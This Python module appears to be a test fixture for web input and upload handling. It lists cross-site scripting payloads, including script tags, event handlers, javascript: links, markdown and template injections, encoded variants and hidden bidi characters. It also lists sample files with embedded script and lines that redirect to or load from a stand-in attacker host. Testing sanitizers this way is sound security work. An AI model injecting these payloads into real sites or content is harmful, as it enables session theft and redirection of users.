"""What people put where a name, a message or a text belongs, hoping that a page runs it."""

from __future__ import annotations

INVISIBLE = "pay\u202elap\u2066x\u200by"
"""Turns the order of what follows round, and holds what nobody sees."""

STRINGS = (
    INVISIBLE,
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '"onfocus=alert(1)/autofocus/x="',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    '![x](x"onerror="alert(1))',
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "{{7*7}}{%print(7)%}${alert(1)}#{alert(1)}",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
)

SCRIPT = "alert(1); document.title = 'ran'"
FILES = {
    "page.html": f"<!doctype html><script>{SCRIPT}</script><h1>x</h1>",
    "page.xhtml": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{SCRIPT}</script></html>",
    "drawing.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{SCRIPT}'><script>{SCRIPT}</script></svg>",
    "data.xml": f"<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{SCRIPT}</h:script></x>",
    "code.js": SCRIPT,
    "code.mjs": SCRIPT,
    "module.wasm": "\0asm\1\0\0\0",
    "film.swf": "FWS\5<script>alert(1)</script>",
    "paper.pdf": "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "bait": f"<html><script>{SCRIPT}</script>",
    "bait.png": f"<html><script>{SCRIPT}</script>",
    "bait.txt": f"<html><script>{SCRIPT}</script>",
    "bait.unknown-kind": f"<html><script>{SCRIPT}</script>",
    "feed.rss": f"<rss><script xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</script></rss>",
    "style.css": "body{background:url(//evil.example/x)}",
    "page.md": f"<script>{SCRIPT}</script>",
    "book.ipynb": '{"cells":[{"cell_type":"markdown","source":["<img src=x onerror=alert(1)>"]}]}',
}
"""Files that run, or that some program may take for one that runs."""
